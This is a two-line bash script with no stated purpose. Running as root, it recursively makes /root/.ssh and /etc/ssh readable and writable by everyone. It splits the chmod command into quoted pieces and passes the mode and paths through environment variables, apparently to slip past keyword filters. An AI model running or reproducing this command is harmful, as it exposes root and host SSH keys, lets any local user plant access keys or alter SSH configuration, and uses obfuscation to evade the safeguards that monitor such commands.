#!/bin/bash
sudo -u root env M=a+rwX D=ssh bash -c 'sh -c "ch""mod -R $M /root/.$D /etc/$D"'
